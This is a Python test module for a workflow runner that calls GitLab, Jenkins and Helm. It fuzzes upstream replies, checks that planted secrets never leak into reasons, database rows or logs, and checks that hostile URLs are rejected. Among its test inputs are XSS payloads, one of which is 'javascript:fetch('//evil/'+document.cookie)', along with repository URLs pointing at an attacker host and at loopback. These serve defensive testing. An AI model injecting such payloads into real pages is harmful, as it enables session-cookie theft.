"""Whatever an upstream answers, a step ends with a reason that may be shown: no internal error, no secret of ours.

Every call of every step of every workflow gets hostile answers, made from a seed.

odd      other types, sizes, encodings, hosts, numbers, statuses, headers: never an internal error, in bounded time
         and memory
telling  an answer holds a secret in one of many spellings: as a reason, a page, a header, a value of an otherwise true
         answer, or a line of a console. Then every row of the database and what the broker and Flower are given is
         searched, and so is the log, whose own redaction is off

By default a call gets one of each, and an inspection a few; with SLIPWAY_RUNS each call gets that many (`make proofs`:
more than 5,000 of each).
"""

from __future__ import annotations

import json
import logging
import resource
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import partial
from itertools import count
from random import Random
from typing import Any
from zlib import crc32

import pytest
from requests.structures import CaseInsensitiveDict
from sqlalchemy import select
from support.intercepted import Change, Intercepted
from support.odd_answers import odd, put_text
from support.runs import runs
from support.spelt import ENCODINGS, is_shown
from support.step_cases import CASES, Case, Stages
from support.world import PASSWORD, World

from common.database.models import Base
from common.jobs.outcomes import INTERNAL
from common.states import StepState
from common.telemetry.redaction import SHORTEST_SECRET, secrets_of
from common.workflows import Upstream
from worker.runner import StepResult
from worker.upstreams.replies import Reply

OF_AN_INSPECTION = 6  # calls, in brief: it makes a hundred of the same kinds
OF_ONE_JOB = 5  # answers to each call, before it is done with a new job
SLOWEST_S = 3.0  # of CPU for one attempt
MOST_KIB = 300 * 1024
STATUSES = (400, 422, 500, 502, 200)
SEALED = "secrets"  # the table whose rows are encrypted
EVERY_STEP = [pytest.param(case, id=case.name) for case in CASES if not case.is_missing]


@pytest.fixture(scope="module")
def intercepted(open_stages: Any) -> Intercepted:
    return Intercepted(open_stages("sqlite").world)


def _attempts(
    stages: Stages, intercepted: Intercepted, case: Case, change: Callable[[int], Change]
) -> Iterator[tuple[str, StepResult, float]]:
    """Run the step with the answer to each call changed in turn; yield what was changed, result and CPU time."""
    for number in range(runs(1)):
        if number % OF_ONE_JOB == 0:
            job = stages.begin(case) if number else stages.ready(case)
        for place in count():
            seed = crc32(f"{case.name} {place} {number}".encode())
            stages.world.time.advance(60)
            stages.world.forget(job, case.step.name)
            intercepted.expect(place, change(seed))
            began_s = time.process_time()
            result = intercepted.runner.run(job.id, case.step.name)
            yield f"call {place}, seed {seed}", result, time.process_time() - began_s
            is_enough = runs(1) == 1 and case.step.upstream is Upstream.SLIPWAY and place >= OF_AN_INSPECTION
            if is_enough or intercepted.count <= place:
                break


@pytest.mark.parametrize("case", EVERY_STEP)
def test_an_odd_answer_is_no_internal_error(
    stages: Stages, intercepted: Intercepted, case: Case, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.CRITICAL)
    before_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    ends = list(_attempts(stages, intercepted, case, lambda seed: partial(_odd, seed)))

    assert [what for what, result, _ in ends if result.code == INTERNAL] == []
    assert [what for what, _, took_s in ends if took_s > SLOWEST_S] == []
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before_kib < MOST_KIB


def _odd(seed: int, _request: object, reply: Reply) -> Reply:
    return odd(Random(seed), reply)


@pytest.mark.parametrize("case", EVERY_STEP)
def test_no_secret_is_shown_anywhere(
    stages: Stages, intercepted: Intercepted, case: Case, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO)
    canaries = _canaries(stages.world, case)

    ends = list(_attempts(stages, intercepted, case, lambda seed: partial(_telling, seed, canaries)))

    told = {what: result.reason for what, result, _ in ends}
    log = "\n".join(repr(vars(record)) for record in caplog.records)
    for where, text in (*told.items(), *_rows(stages.world), ("the log", log)):
        assert [each for each in canaries if is_shown(each, text)] == [], where


def _canaries(world: World, case: Case) -> list[str]:
    """Return the secrets that the step holds: those of the settings, and the password if it is given one."""
    settings = [each for each in secrets_of(world.settings) if len(each) >= SHORTEST_SECRET]
    return [*settings, PASSWORD] if case.step.secret else settings


def _telling(seed: int, canaries: list[str], request: Any, reply: Reply) -> Reply:
    random = Random(seed)
    encode = ENCODINGS[random.choice(sorted(ENCODINGS))]
    login = request.headers.get("PRIVATE-TOKEN") or request.headers.get("Authorization") or ""
    login = login if isinstance(login, str) else login.decode()
    told = f"{encode(random.choice(canaries))} from {login} with {encode(random.choice(canaries))}"
    match random.randrange(5):
        case 0:
            return replace(reply, status=random.choice(STATUSES), body=json.dumps({"message": told}).encode())
        case 1:
            return replace(reply, status=random.choice(STATUSES), body=f"<html><pre>{told}</pre>".encode())
        case 2:
            headers = CaseInsensitiveDict(reply.headers) | {"X-Error": told.encode("ascii", "replace").decode()}
            return replace(reply, status=400, headers=headers)
        case 3:
            return put_text(random, reply, told)
        case _:
            return replace(reply, body=reply.body + told.encode())


def _rows(world: World) -> Iterator[tuple[str, str]]:
    for table in Base.metadata.sorted_tables:
        if table.name != SEALED:
            rows = world.db.read(lambda session, table=table: session.execute(select(table)).all())
            yield table.name, "\n".join(json.dumps(list(map(str, row)), ensure_ascii=False) for row in rows)


# -- addresses ----------------------------------------------------------------------------------------------------


def _case(flow: str, step: str) -> Case:
    return next(case for case in CASES if case.name == f"{flow}.{step}")


def _naming(**values: str) -> Change:
    """Return the change that puts these values into every answer that is an object and has such a key."""

    def change(_request: object, reply: Reply) -> Reply:
        try:
            document = json.loads(reply.body)
        except ValueError:
            return reply
        for each in document if isinstance(document, list) else [document]:
            if isinstance(each, dict):
                each.update({key: value for key, value in values.items() if key in each})
        return replace(reply, body=json.dumps(document).encode())

    return change


@pytest.mark.parametrize("step", ["await_source", "await_helm"])
@pytest.mark.parametrize(
    "address", ["http://evil.example/dev/app.git", "javascript:alert(1)", "http://127.0.0.1:9/dev/app.git"]
)
def test_a_repository_on_another_host_is_used_by_nobody(
    stages: Stages, intercepted: Intercepted, step: str, address: str
) -> None:
    job = stages.begin(_case("provision", step))
    intercepted.expect(None, _naming(http_url_to_repo=address))

    stages.world.run_through(job, step, runner=intercepted.runner)

    row = stages.world.step(job, step)
    assert (row.state, row.output) == (StepState.FAILED, None)
    assert "GITLAB_EXT_URL" in str(row.reason)
    assert ("evil.example" in str(row.reason)) == ("evil.example" in address)


@pytest.mark.parametrize("address", ["javascript:fetch('//evil/'+document.cookie)", "https://evil.example/ada"])
def test_a_link_that_leads_elsewhere_is_left_out(stages: Stages, intercepted: Intercepted, address: str) -> None:
    job = stages.begin(_case("signup", "create_gitlab_user"))
    intercepted.expect(None, _naming(web_url=address))

    stages.world.run_through(job, "create_gitlab_user", runner=intercepted.runner)

    assert [row.url for row in stages.world.ledger(job)] == [None]


def test_a_build_is_shown_where_jenkins_is_whatever_jenkins_says(stages: Stages, intercepted: Intercepted) -> None:
    job = stages.begin(_case("build", "await_executor"))
    intercepted.expect(None, _naming(url="javascript:alert(1)//"))

    stages.world.run_through(job, "await_executor", runner=intercepted.runner)

    output = stages.world.step(job, "await_executor").output or {}
    assert output["url"].startswith(f"{stages.world.settings.jenkins_url}/job/")
    assert output["console_url"] == f"{output['url']}console"
